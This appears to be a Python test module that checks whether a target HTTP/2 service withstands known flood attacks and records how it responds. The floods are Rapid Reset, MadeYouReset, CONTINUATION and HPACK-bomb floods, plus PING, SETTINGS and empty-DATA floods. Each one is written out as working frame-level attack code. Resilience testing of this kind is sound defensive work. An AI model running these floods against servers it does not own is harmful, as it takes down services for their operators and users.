"""HTTP/2 floods: frames that cost their sender little. What h2 refuses by itself is shown."""

import collections
import contextlib
import select
import time

from frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, Frames, fields, frame, length, literal,
)
from siege import Fact, connected

SECONDS = 3
CONNECTIONS = 2
# So often are frames sent: a batch of them on each connection.
TICK = 0.02


class Flood:
    """One connection that sends batches, and what it was told."""

    def __init__(self, target, seen, reads):
        self.stream = connected(target.api, window=None if reads else 4_096)
        self.stream.setblocking(False)
        self.began, self.next_stream, self.reads = time.monotonic(), 1, reads
        self.seen, self.frames, self.out = seen, Frames(), PREFACE + frame(SETTINGS)
        self.batches = self.resets = 0

    def streams(self, number):
        """The next stream identifiers."""
        first, self.next_stream = self.next_stream, self.next_stream + 2 * number
        return range(first, self.next_stream, 2)

    def push(self, batch):
        """Sends what it can; whether the connection is still there."""
        if not self.out:
            self.out = batch(self)
            self.batches += 1
            self.seen["batches"] += 1
        with contextlib.suppress(BlockingIOError):
            try:
                self.out = self.out[self.stream.send(self.out) :]
            except OSError:
                # What it said before is still to be read, by who reads.
                if self.reads:
                    return self.pull()
                self.seen["ended"] += 1
                return False
        return True

    def pull(self):
        """Reads what has come; whether the connection is still there."""
        with contextlib.suppress(BlockingIOError):
            while True:
                try:
                    piece = self.stream.recv(65_536)
                except BlockingIOError:
                    raise
                except OSError:
                    piece = b""
                if not piece:
                    self.seen["ended"] += 1
                    self.seen["longest"] = max(self.seen["longest"], time.monotonic() - self.began)
                    self.seen["most resets"] = max(self.seen["most resets"], self.resets)
                    return False
                for kind, flags, _, payload in self.frames.took(piece):
                    if kind == GOAWAY:
                        self.seen[f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"] += 1
                    elif kind == RST_STREAM:
                        self.resets += 1
                        self.seen[f"RST_STREAM {int.from_bytes(payload, 'big')}"] += 1
                    elif kind in (PING, SETTINGS) and flags & ACK:
                        self.seen["acknowledged"] += 1
                    elif kind == HEADERS:
                        self.seen["answers"] += 1
        return True


def flood(target, batch, seconds=SECONDS, reads=True, connections=CONNECTIONS):
    """Sends batches on some connections, and on others once those are ended; what was seen."""
    seen, began = collections.Counter(), time.monotonic()
    floods = []
    while (now := time.monotonic()) < began + seconds:
        while len(floods) < connections:
            floods.append(Flood(target, seen, reads))
            seen["connections"] += 1
        floods = [one for one in floods if one.push(batch)]
        if reads:
            floods = [one for one in floods if one.pull()]
        time.sleep(max(0, now + TICK - time.monotonic()))
    # What is under way may still come.
    for one in floods:
        while select.select([one.stream], [], [], 0.2)[0] and one.pull():
            pass
        one.stream.close()
    return seen


def calmed(what, seen, *more):
    """That connections were ended for being too much."""
    return [
        Fact(f"connections that {what} are ended with ENHANCE_YOUR_CALM", seen[f"GOAWAY {ENHANCE_YOUR_CALM}"] > 0 and seen["ended"] > 0, dict(seen)),
        *more,
    ]


def asked(one, target, count, flags=END_HEADERS | END_STREAM, more=b""):
    """So many requests, by their stream."""
    block = fields(target, "/v1/sessions/verify") + more
    return [(stream, frame(HEADERS, flags, stream, block)) for stream in one.streams(count)]


def rapid_reset(target):
    """CVE-2023-44487: 2,500 requests a second that are taken back at once."""

    def batch(one):
        return b"".join(head + frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream, head in asked(one, target, 25))

    return calmed("take requests back", flood(target, batch))


def made_you_reset(target):
    """CVE-2025-8671: requests whose frames make the node reset them, after which they no longer count as open."""
    ways = {
        "a WINDOW_UPDATE of nothing": lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"),
        "a window that overflows": lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"),
        "DATA after the end": lambda stream: frame(DATA, 0, stream, b"x"),
        "HEADERS after the end": lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x83"),
        "a PRIORITY of a wrong length": lambda stream: frame(PRIORITY, 0, stream, b"x"),
        "a stream that depends on itself": lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"x"),
        "a body shorter than it says": literal(b"content-length", b"5"),
        "a field's name in capitals": literal(b"X", b"x"),
    }
    facts = []
    for way, provocation in ways.items():
        # A field of the head, or a frame after it.
        after, more = (lambda _: b"", provocation) if isinstance(provocation, bytes) else (provocation, b"")

        def batch(one):
            return b"".join(head + after(stream) for stream, head in asked(one, target, 25, more=more))

        seen = flood(target, batch, seconds=SECONDS / 6)
        told = {**seen, "way": way}
        refused = seen["ended"] > 0 and sum(seen[name] for name in seen if name.startswith("GOAWAY")) > 0
        facts.append(Fact(f"{way} ends the connection", refused, told))
        facts.append(Fact(f"{way} gets at most 128 resets of it", seen["most resets"] <= 128, told))
    return facts


def continuation(target):
    """CVE-2024-27316: a head that goes on and on."""

    def batch(one):
        first = b""
        if one.batches == 0:
            first = frame(HEADERS, 0, 1, fields(target, "/v1/sessions/verify"))
        return first + b"".join(frame(CONTINUATION, 0, 1, literal(b"x", b"x" * 4_000)) for _ in range(10))

    def empty(one):
        first = frame(HEADERS, 0, 1, fields(target, "/v1/sessions/verify")) if one.batches == 0 else b""
        return first + frame(CONTINUATION, 0, 1) * 200

    long, many = flood(target, batch, SECONDS / 2), flood(target, empty, SECONDS / 2)
    told = (dict(long), dict(many))
    return [
        Fact("a head of 4,000 bytes more in each CONTINUATION ends the connection", long["ended"] > 0, told),
        *calmed("send empty CONTINUATIONs", many),
        Fact("no such request is answered as one", not many["answers"], told),
    ]


def hpack_bomb(target):
    """CVE-2016-6581: a long field in HPACK's table, named again and again at a byte each: 60 MiB in 16 KiB."""

    def batch(one):
        # A field that goes into the table (index 62), and then its index.
        entry = b"\x40" + length(1) + b"x" + length(3_900) + b"x" * 3_900
        block = fields(target, "/v1/sessions/verify") + entry + b"\xbe" * 12_000
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in one.streams(2))

    seen = flood(target, batch)
    refused = sum(seen[name] for name in seen if name.startswith(("GOAWAY", "RST_STREAM", "answers")))
    return [Fact("its streams are refused", refused > 0 and seen["batches"] > 20, dict(seen))]


def unread(what, payload, number):
    """Frames that must be answered, 10,000 a second: their answers are read, and then they are not."""

    def strike(target):
        def batch(_):
            return payload * number

        quiet = flood(target, batch, SECONDS / 2)
        # Some 200 KiB of answers fill what there is between the two; then it has the head's time-out to take one.
        deaf = flood(target, batch, target.deadlines["head"] + 3, reads=False)
        return [
            Fact(f"{what} are answered while their sender reads", quiet["acknowledged"] > 1_000, dict(quiet)),
            Fact("who takes no answer is closed", deaf["ended"] > 0, dict(deaf)),
        ]

    return strike


pings = unread("PINGs", frame(PING, 0, 0, b"saddlebg"), 100)
settings = unread("SETTINGS", frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"), 100)


def empty_data(target):
    """CVE-2019-9518: DATA of no bytes, without end, and other frames that do nothing."""

    def data(one):
        if one.batches == 0:
            one.stream_id, head = asked(one, target, 1, END_HEADERS)[0]
            return head
        return frame(DATA, 0, one.stream_id) * 200

    def others(one):
        return (frame(PRIORITY, 0, 1, b"\0\0\0\x03\0") + frame(0xFA, 0, 1, b"x") + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")) * 60

    empty, other = flood(target, data, SECONDS / 2), flood(target, others, SECONDS / 2)
    return [
        *calmed("send empty DATA", empty),
        Fact("PRIORITY, WINDOW_UPDATE and unknown frames are read and forgotten", other["batches"] > 100, dict(other)),
    ]
